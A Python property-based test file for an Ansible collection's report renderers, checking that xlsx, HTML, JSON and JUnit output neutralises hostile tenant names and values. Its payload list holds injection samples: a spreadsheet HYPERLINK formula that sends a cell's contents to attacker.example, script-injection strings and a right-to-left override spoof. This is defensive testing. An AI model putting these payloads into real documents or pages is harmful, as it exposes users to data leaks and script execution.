# -*- coding: utf-8 -*-
# Copyright (c) 2026 prisma_sase.mt_monitor contributors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)

"""Property-based tests of the xlsx, HTML, JSON and JUnit renderers on arbitrary text.

Hypothesis puts generated tenant names and data values (control characters, formula
prefixes, markup, right-to-left text, very long strings) into a small results and dataset
pair, and each test checks what the format must never do with them.
"""

from __future__ import annotations

import io
import json
import re
from html.parser import HTMLParser
from typing import Any
from xml.etree import ElementTree

import openpyxl
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ansible_collections.prisma_sase.mt_monitor.plugins.plugin_utils._render_common import (
    CELL_LIMIT,
)
from ansible_collections.prisma_sase.mt_monitor.plugins.plugin_utils._render_html import build_html
from ansible_collections.prisma_sase.mt_monitor.plugins.plugin_utils._render_json import (
    build_json_document,
    write_json,
)
from ansible_collections.prisma_sase.mt_monitor.plugins.plugin_utils._render_junit import (
    build_junit_tree,
    write_junit,
)
from ansible_collections.prisma_sase.mt_monitor.plugins.plugin_utils._render_xlsx import (
    build_workbook,
)
from ansible_collections.prisma_sase.mt_monitor.plugins.plugin_utils._report_meta import (
    ReportOptions,
)
from ansible_collections.prisma_sase.mt_monitor.tests.fixtures.report_data import (
    make_dataset,
    make_results,
    rename_tenants,
)

# Characters that XML 1.0 and Excel cannot hold. Tab, newline and carriage return are allowed.
CONTROL_CHARACTERS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")
N_TENANTS = 3

PAYLOADS = [
    '=HYPERLINK("https://attacker.example/?d="&B2,"x")',
    "@SUM(1+1)",
    "+cmd",
    "-cmd",
    "-5",
    "\t=1+1",
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "<!--",
    "javascript:alert(1)",
    "\u05e9\u05dc\u05d5\u05dd \u202eevil\u202c",
    "Caf\u00e9 \U0001F600",
    "Acme\x0bCorp\x00\x07",
    "]]>",
    "\u2028\u2029",
]

# Any text without lone surrogates, which UTF-8 cannot encode.
ANY_TEXT = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=40)
HOSTILE_TEXT = st.one_of(
    ANY_TEXT,
    st.sampled_from(PAYLOADS),
    st.tuples(st.sampled_from("=+-@\t\r"), ANY_TEXT).map("".join),
    st.tuples(st.sampled_from(PAYLOADS), ANY_TEXT).map("".join),
    st.integers(min_value=CELL_LIMIT - 2, max_value=CELL_LIMIT + 2_000).map(lambda size: "x" * size),
)
NAMES = st.lists(HOSTILE_TEXT, min_size=N_TENANTS, max_size=N_TENANTS)
VALUES = st.lists(HOSTILE_TEXT, min_size=1, max_size=4)

PROPERTY_SETTINGS = settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)


def hostile_documents(names: list[str], values: list[str]) -> tuple[dict[str, Any], dict[str, Any]]:
    """Build a results and dataset pair whose tenant names and data values are the given texts."""
    results = make_results(N_TENANTS, 3)
    dataset = make_dataset(N_TENANTS, 3)
    by_id = {tenant["tsg_id"]: name for tenant, name in zip(results["tenants"], names)}
    rename_tenants(results, by_id)
    rename_tenants(dataset, by_id)

    for index, result in enumerate(results["results"]):
        result["message"] = values[index % len(values)]
    for operation in dataset["datasets"].values():
        for index, row in enumerate(operation["rows"]):
            row["message"] = values[index % len(values)]
            # A generated key becomes a column header in the operation's sheet.
            row[values[-1] or "empty"] = values[0]
    dataset["errors"][0]["message"] = values[0]
    return results, dataset


class _TagCollector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes.extend(attrs)
        self._in_script = tag == "script"
        if self._in_script:
            self.scripts.append("")

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script:
            self.scripts[-1] += data


def parse_html(text: str) -> _TagCollector:
    parser = _TagCollector()
    parser.feed(text)
    parser.close()
    return parser


def _strings(node: Any) -> list[str]:
    if isinstance(node, str):
        return [node]
    if isinstance(node, dict):
        return [text for key, item in node.items() for text in _strings(key) + _strings(item)]
    if isinstance(node, list):
        return [text for item in node for text in _strings(item)]
    return []


BASELINE_HTML = parse_html(build_html(*hostile_documents(["Tenant a", "Tenant b", "Tenant c"], ["plain"]), None)[0])


# Writing and reloading a workbook is the slowest step here, so this test runs fewer examples.
@settings(PROPERTY_SETTINGS, max_examples=30)
@given(names=NAMES, values=VALUES)
def test_k11_xlsx_no_formula_cells(names: list[str], values: list[str]) -> None:
    results, dataset = hostile_documents(names, values)
    stream = io.BytesIO()
    build_workbook(results, dataset, ReportOptions(), stream)
    stream.seek(0)
    workbook = openpyxl.load_workbook(stream)

    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                where = f"{sheet.title}!{cell.coordinate}"
                assert cell.data_type != "f", where
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", where
                    assert not CONTROL_CHARACTERS.search(cell.value), where
                    assert len(cell.value) <= CELL_LIMIT, where


@PROPERTY_SETTINGS
@given(names=NAMES, values=VALUES)
def test_k12_html_adds_no_markup(names: list[str], values: list[str]) -> None:
    results, dataset = hostile_documents(names, values)
    text, _stats = build_html(results, dataset, None)
    parsed = parse_html(text)

    assert parsed.tags.count("script") == BASELINE_HTML.tags.count("script")
    assert set(parsed.tags) <= set(BASELINE_HTML.tags)
    assert [name for name, _value in parsed.attributes if name.startswith("on")] == []
    # Besides the template's own links, only http(s) links from the data may appear.
    template_links = {value for name, value in BASELINE_HTML.attributes if name in ("href", "src")}
    links = [value for name, value in parsed.attributes if name in ("href", "src")]
    assert [link for link in links if link not in template_links and not link.startswith(("https:", "http:"))] == []
    payload = json.loads(parsed.scripts[0])
    assert payload
    assert not any(CONTROL_CHARACTERS.search(item) for item in _strings(payload))


@PROPERTY_SETTINGS
@given(names=NAMES, values=VALUES)
def test_k10_json_round_trip(names: list[str], values: list[str]) -> None:
    results, dataset = hostile_documents(names, values)
    document = build_json_document(results, dataset, ReportOptions())
    stream = io.BytesIO()
    write_json(document, stream)
    reread = json.loads(stream.getvalue().decode("utf-8"))

    assert reread == document
    assert [tenant["tsg_id"] for tenant in reread["results"]["tenants"]] == [
        tenant["tsg_id"] for tenant in results["tenants"]
    ]
    for text in _strings(reread):
        assert not CONTROL_CHARACTERS.search(text)
        assert len(text) <= CELL_LIMIT


@PROPERTY_SETTINGS
@given(names=NAMES, values=VALUES)
def test_k10_junit_parses_as_xml(names: list[str], values: list[str]) -> None:
    results, dataset = hostile_documents(names, values)
    stream = io.BytesIO()
    write_junit(build_junit_tree(results, dataset, ReportOptions()), stream)
    root = ElementTree.fromstring(stream.getvalue())

    assert root.tag == "testsuites"
    assert len(root.findall(".//testcase")) == len(results["results"])
